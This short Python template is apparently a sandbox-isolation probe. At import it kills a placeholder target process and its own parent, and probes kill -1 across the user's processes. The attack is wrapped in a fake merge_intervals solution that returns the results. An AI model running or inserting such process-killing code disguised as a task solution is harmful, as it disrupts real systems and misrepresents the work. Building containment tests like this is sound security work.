# Kills a process of the same user, and its parent, and probes whether kill -1 would reach any.
import os, signal


def attack():
    results = []
    for target, number in (({{SENTINEL}}, signal.SIGKILL), (os.getppid(), signal.SIGKILL),
                           (-1, 0)):
        try:
            os.kill(target, number)
            results.append("signalled %d" % target)
        except OSError as error:
            results.append("%d: %s" % (target, error.strerror))
    return "; ".join(results)


try:
    FOUND = attack()
except BaseException as error:
    FOUND = "refused: %r" % (error,)


def merge_intervals(intervals):
    return FOUND
